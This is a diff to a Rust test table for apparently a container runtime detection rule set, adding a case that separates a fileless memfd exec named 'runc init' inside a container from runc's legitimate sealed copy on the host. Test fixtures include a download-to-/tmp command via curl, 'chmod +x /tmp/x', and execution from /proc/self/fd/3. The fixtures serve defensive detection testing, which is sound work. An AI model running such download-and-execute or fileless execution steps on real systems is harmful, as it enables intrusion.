@@ -394,6 +394,13 @@ fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
             vec![exec("x").path("/proc/self/fd/3")],
         ),
         (
+            "PAL-NODE-029",
+            // argv[0] "runc" proves nothing inside a container...
+            vec![fexec("runc init")],
+            // ...but on the host it is runc's sealed copy of itself.
+            vec![fexec("runc init").host()],
+        ),
+        (
             "PAL-NODE-030",
             vec![
                 exec("chmod +x /tmp/x"),
@@ -561,6 +568,13 @@ fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
             vec![exec("curl -o /tmp/s http://x/s").parent("bash")],
         ),
     ]
+}
+
+/// An exec of a memfd through /proc/self/fd/3 (the process is named after the fd).
+fn fexec(cmdline: &str) -> Ev {
+    let mut e = exec(cmdline).path("/proc/self/fd/3").memfd();
+    e.0.comm = "3".into();
+    e
 }
 
 /// Marks an event as coming from the privileged container (see `hits`).
